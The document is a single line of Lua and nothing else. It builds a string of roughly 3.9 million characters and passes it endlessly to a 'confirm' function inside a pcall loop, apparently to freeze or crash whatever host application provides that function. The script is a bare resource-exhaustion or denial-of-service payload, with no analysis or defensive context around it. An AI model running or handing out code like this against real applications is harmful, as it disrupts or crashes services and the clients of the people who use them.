local s="q."..("y"):rep(3900000)  while true do pcall(confirm,"x",{ok=s}) end
